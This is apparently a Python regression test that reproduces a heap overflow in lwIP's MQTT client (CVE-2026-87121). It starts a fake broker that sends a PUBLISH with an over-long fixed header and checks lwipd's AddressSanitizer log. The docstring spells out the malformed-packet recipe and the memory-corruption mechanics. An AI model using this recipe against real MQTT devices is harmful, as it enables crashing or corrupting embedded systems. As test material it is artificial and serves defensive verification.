# SPDX-License-Identifier: MIT
"""Row 38 (MQTT): a broker's PUBLISH with an over-long fixed header makes
lwIP's MQTT client write past its mqtt_client_t (CVE-2026-87121).

mqtt_parse_incoming() (src/apps/mqtt/mqtt.c, 2.0 to 2.2.1 and master)
reads remaining-length bytes for as long as they have the continuation bit
set: nothing stops it after the 4 bytes MQTT allows, and each one is stored
at client->rx_buffer[msg_idx++]. With a fixed header of F > 128 bytes
(MQTT_VAR_HEADER_BUFFER_LEN), buffer_space = MQTT_VAR_HEADER_BUFFER_LEN -
F wraps to about 65400 (u16_t), so the limit on the copy of the message
body into rx_buffer + F is gone:
  2.1.3: pbuf_copy_partial() copies the body there: 1021 bytes at offset
         200 of a 128-byte buffer, past the end of the heap block.
  2.2.x: pbuf_get_contiguous() copies only when the bytes do not lie in one
         pbuf; the 2.2 clamp to the first pbuf's length goes negative when
         the header ran past that pbuf, so with a first pool buffer of at
         most 128 TCP payload bytes (zoo/opts/pool160: 106) the whole rest
         of the chain is copied to rx_buffer + F. With lwipd's 1536-byte
         pool buffers 2.2.1 reads the body in place and drops the
         connection on its LWIP_ERROR("buffer length mismatch"); only the
         header bytes 128-199 land past rx_buffer, inside the struct
         (client->output), which ASan cannot see (UBSan can).

The broker (_h_mqtt.py) answers lwIP's CONNECT with CONNACK and sends one
QoS 1 PUBLISH, packet id 0x4242. Affected variants and the mitigation
(label mitigation-*): 1021 bytes after a 200-byte fixed header (the same
remaining length, spread over 199 bytes: 0x80 padding, a final 0x00).
Controls (the other fixed variants, the same builds): a well-formed
PUBLISH, 1000 payload bytes or fewer so that it fits the first pool
buffer, since 2.2's clamp refuses a longer one in a pool chain even when
well-formed. Bad: AddressSanitizer reports in lwipd's log, with an mqtt.c
frame (or lwipd stops, or no PUBACK comes). Clean: lwIP PUBACKs the
PUBLISH and runs on with no ASan report (UBSan's lines about the long
header are kept as evidence): the message went through the same parser."""
import json
import os
import re
import select
import subprocess
import threading

from lwipd import testing as harness
from zoo.scenarios import _h_mqtt

HELPER = os.path.join(os.path.dirname(os.path.abspath(__file__)), "_h_mqtt.py")
PORT = 1883
WINDOW = 15.0
FRAME_HDRS = 14 + 20 + 20  # Ethernet, IPv4, TCP without options (lwIP has no timestamps)


def _pool_bufsize(env):
    """PBUF_POOL_BUFSIZE of the variant's build (lwipd --version), which
    must have AddressSanitizer and the MQTT client in it: without them a
    run without a report would mean nothing."""
    out = harness.run([env.binaries.lwipd, "--version"]).stdout
    san = re.search(r"^sanitizers: (.*)$", out, re.M)
    apps = re.search(r"^lwIP apps: (.*)$", out, re.M)
    if not san or "address" not in san.group(1) or not apps or "mqtt" not in apps.group(1):
        raise RuntimeError("this build lacks ASan or lwIP's MQTT client: %r" % out[:400])
    m = re.search(r"PBUF_POOL_BUFSIZE=(\d+)", out)
    if not m:
        raise RuntimeError("lwipd --version names no PBUF_POOL_BUFSIZE: %r" % out[-500:])
    return int(m.group(1))


def _control_payload(env):
    """The control PUBLISH's payload length: 1000 bytes, or less so that the
    whole message fits the first pool buffer of its frame (after 54 bytes of
    Ethernet, IP and TCP headers). On 2.2.x a message longer than that
    buffer is refused even when well-formed (see the entry's reason)."""
    room = _pool_bufsize(env) - FRAME_HDRS
    overhead = 3 + 2 + len(_h_mqtt.TOPIC) + 2  # fixed header, topic, packet id
    n = min(_h_mqtt.PAYLOAD_LEN, room - overhead)
    if n < 16:
        raise RuntimeError("pool buffers of %d bytes leave no room for the control" % room)
    return n


def _broker(env, mode, payload_len):
    err = open(os.path.join(env.dir, "broker.stderr"), "w")
    srv = env.ns.popen([harness.PYTHON, HELPER, harness.HOST_IP, str(PORT), str(WINDOW), mode,
                        str(payload_len)], stdout=subprocess.PIPE, stderr=err, text=True)
    err.close()
    rd, _, _ = select.select([srv.stdout], [], [], 30)
    line = srv.stdout.readline() if rd else ""
    if line.strip() != "ready":
        srv.kill()
        srv.wait(timeout=10)
        raise RuntimeError("the MQTT broker did not start: %r" % line)
    return srv


def _follow(srv, seen):
    """Append the broker's events to SEEN as it prints them (a thread)."""
    def read():
        for line in srv.stdout:
            if line.startswith("{"):
                seen.append(json.loads(line))
    t = threading.Thread(target=read, daemon=True)
    t.start()
    return t


def _sanitizer(env):
    """The sanitizer lines of lwipd's log: (ASan report's first lines,
    UBSan runtime errors)."""
    path = os.path.join(env.dir, "lwipd.log")
    with open(path, errors="replace") as f:
        lines = f.read().splitlines()
    ubsan = [x for x in lines if "runtime error:" in x][:4]
    for i, x in enumerate(lines):
        if "ERROR: AddressSanitizer" in x:
            return lines[i:i + 14], ubsan
    return [], ubsan


def _start(env):
    """Start lwipd publishing to the broker. UBSan must not stop it at the
    long header's shift (a caller's UBSAN_OPTIONS=halt_on_error=1, as
    scripts/test's sanitizer runs set): the write ASan catches comes
    after it, and the mitigation's run is judged by ASan alone."""
    old = os.environ.get("UBSAN_OPTIONS")
    os.environ["UBSAN_OPTIONS"] = "halt_on_error=0:print_stacktrace=1"
    try:
        env.start(["--mqtt-pub", "%s:%d:zoo/telemetry:1000" % (harness.HOST_IP, PORT)],
                  wait_ready=False)
    finally:
        if old is None:
            del os.environ["UBSAN_OPTIONS"]
        else:
            os.environ["UBSAN_OPTIONS"] = old


def run(env):
    # fixed variants are controls (a well-formed PUBLISH), but for the
    # mitigation (label mitigation-*): the crafted one again
    crafted = env.role == "affected" or env.label.startswith("mitigation")
    mode = "crafted" if crafted else "wellformed"
    control_len = _control_payload(env)  # checks the build, too
    payload_len = control_len if mode == "wellformed" else _h_mqtt.PAYLOAD_LEN
    srv = _broker(env, mode, payload_len)
    seen = []
    reader = _follow(srv, seen)
    try:
        _start(env)

        def settled():
            if env.exited() is not None:
                return "exited"
            if any(e.get("event") == "puback" and e.get("ours") for e in seen):
                return "puback"
            if any(e.get("event") in ("closed", "reset", "end") for e in seen):
                return "broker-done"
            return None

        try:
            state = harness.wait_for(settled, WINDOW, "a PUBACK or lwipd's exit", 0.1)
        except TimeoutError:
            state = "timeout"
        mqtt = env.stats()["apps"]["lwip"]["mqtt"] if env.exited() is None else None
    finally:
        if srv.poll() is None:
            srv.terminate()
        srv.wait(timeout=10)
        reader.join(timeout=10)
    with open(os.path.join(env.dir, "broker.jsonl"), "w") as f:
        f.writelines(json.dumps(e) + "\n" for e in seen)
    sent = [e for e in seen if e.get("event") == "sent"]
    if not sent:
        raise RuntimeError("the broker never sent its PUBLISH (lwIP did not connect?): %r" % seen)
    asan, ubsan = _sanitizer(env)
    evidence = {"mode": mode, "sent": sent[0], "state": state, "exit_code": env.exited(),
                "broker_events": [e.get("event") for e in seen][:20],
                "asan_report": asan, "ubsan": ubsan, "mqtt": mqtt}
    if asan:
        frames = [x.strip() for x in asan if re.match(r"\s*#\d+ ", x)]
        evidence["mqtt_frames"] = [x for x in frames if "mqtt.c" in x]
        if not evidence["mqtt_frames"]:
            raise RuntimeError("an ASan report without an mqtt.c frame: %r" % asan)
        kind = asan[0].split("AddressSanitizer:", 1)[1].split(" on ")[0].strip()
        access = next((x.strip() for x in asan if "WRITE of size" in x or "READ of size" in x),
                      "")
        return env.outcome(True, "ASan: %s, %s, in %s after a PUBLISH with a %d-byte fixed "
                           "header" % (kind, access.split(" at ")[0],
                                       evidence["mqtt_frames"][0].split(" in ", 1)[-1],
                                       sent[0]["fixed_header_len"]), evidence)
    if env.exited() is not None:
        return env.outcome(True, "lwipd exited (%s) after the broker's PUBLISH, no ASan report"
                           % env.exited(), evidence)
    if state != "puback":
        return env.outcome(True, "no PUBACK for the broker's PUBLISH (%s)" % state, evidence)
    return env.outcome(False, "lwIP PUBACKed the %s %d-byte PUBLISH (id 0x%x, fixed header %d "
                       "bytes) and runs on, no ASan report" % (
                           "well-formed" if mode == "wellformed" else "crafted",
                           sent[0]["length"], _h_mqtt.PKT_ID, sent[0]["fixed_header_len"]),
                       evidence)
